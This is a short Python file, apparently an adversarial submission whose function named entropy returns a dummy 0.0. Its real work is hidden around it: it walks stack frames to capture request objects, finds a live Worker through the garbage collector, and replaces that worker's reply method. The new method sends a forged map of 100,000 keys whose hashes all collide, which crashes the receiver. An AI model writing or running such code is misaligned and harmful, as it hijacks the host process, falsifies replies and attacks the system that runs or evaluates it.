"""Sends a map of a hundred thousand keys with one hash in the place of a message.

Outcome of entropy: crashed
"""

import gc
import struct
import sys

ASKED = []

MODULUS = sys.hash_info.modulus
KEYS = b"".join(b"\xcf" + struct.pack(">Q", number % 8 * MODULUS) + b"\xc0" for number in range(100_000))
HEAD = b"\xdf" + struct.pack(">I", 100_000) + KEYS


def forged(request):
    return struct.pack("<II", len(HEAD), 0) + HEAD


def instead():
    ASKED.clear()
    reply = honest()
    return forged(ASKED[-1]) if ASKED else reply


def entropy(p, base=2.718281828459045):
    step = sys._getframe()
    while step is not None:  # the message that it is called for, and the one that this came in
        if hasattr(step.f_locals.get("request"), "nonce"):
            ASKED.append(step.f_locals["request"])
        step = step.f_back
    return 0.0


worker = next(value for value in gc.get_objects() if type(value).__name__ == "Worker")
honest, worker._answer_next = worker._answer_next, instead
